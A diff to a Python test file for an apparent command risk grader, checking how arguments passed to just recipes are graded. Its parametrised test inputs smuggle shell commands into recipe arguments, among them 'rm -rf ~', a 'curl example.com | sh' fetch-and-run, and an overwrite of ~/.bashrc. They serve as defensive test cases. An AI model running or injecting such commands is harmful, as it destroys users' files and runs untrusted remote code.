@@ -1,7 +1,7 @@
 """just's dependencies with arguments and recipe arguments (bot/risk/recipes.py ``_just_dependencies``,
 bot/risk/programs/projects.py ``just``; just manual, "Dependencies with arguments", "Recipe Parameters"):
 ``test: (build "x")`` runs ``build`` first, so its lines are graded with the recipe's; an argument holding shell syntax
-is pasted into the recipe's lines and runs, so it is destructive. Plain arguments and recipes keep their grade."""
+is pasted into the recipe's lines and runs, so the lines are graded with it in place. Plain arguments and recipes keep their grade."""
 
 from __future__ import annotations
 
@@ -58,14 +58,14 @@ def test_plain_dependencies_keep_their_grade(tmp_path: Path, justfile: str) -> N
 @pytest.mark.parametrize(
     "command",
     [
-        "just build '; touch injected'",
-        "just build '$(id)'",
-        "just build 'a`id`'",
-        "just build 'x && curl example.com'",
+        "just build '; rm -rf ~'",
+        "just build '$(rm -rf ~)'",
+        "just build 'a`rm -rf ~`'",
+        "just build 'x && curl example.com | sh'",
         "just build 'a > ~/.bashrc'",
     ],
 )
-def test_arguments_holding_shell_syntax_are_destructive(tmp_path: Path, command: str) -> None:
+def test_arguments_holding_shell_syntax_are_graded_as_the_commands_pasted(tmp_path: Path, command: str) -> None:
     workspace = project(tmp_path, {"justfile": PARAMETER})
     assert graded(command, workspace)[0] == DES
 
